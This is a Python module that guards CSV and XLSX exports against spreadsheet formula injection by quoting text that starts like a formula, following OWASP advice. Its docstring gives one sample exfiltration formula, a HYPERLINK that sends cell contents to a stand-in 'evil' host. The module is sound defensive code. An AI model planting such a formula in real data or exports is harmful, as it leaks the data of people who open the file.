"""Cells of every download a spreadsheet may open (CSV, XLSX): text never starts a formula.

A member writes an exchange's description, a listing's title, their own name; another person
downloads a statement, a report or the audit trail as CSV and opens it in a spreadsheet, which
runs a cell such as ``=HYPERLINK("http://evil/?"&A1, "Click")`` as a formula. So text that
starts like a formula (``=``, ``+``, ``-``, ``@``, a tab or a carriage return) is written with a
leading ``'``, which spreadsheets show as text (OWASP's advice for CSV injection). Numbers, and
text that is only a number ("-1.50", "-1:30"), are written as they are.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

from openpyxl.worksheet.worksheet import Worksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A signed number, a decimal or hours and minutes ("-1.50", "+2", "-1:30"): nothing to run.
# (The import format's escape_cell, imports/formats.py, reads numbers the same way.)
NUMBER = re.compile(r"[+-]?[0-9][0-9.,:]*")


def cell(value: Any) -> Any:
    """``value`` as a download writes it: text that could start a formula, quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


class Writer:
    """``csv.writer`` whose every cell goes through ``cell``."""

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class DictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose every cell goes through ``cell``."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def append(sheet: Worksheet, row: Sequence[Any]) -> None:
    """Append ``row`` to an XLSX sheet with its text kept as text: openpyxl would store text
    starting with ``=`` as a formula."""
    sheet.append(list(row))
    for written in sheet[sheet.max_row]:
        if isinstance(written.value, str) and written.data_type == "f":
            written.data_type = "s"
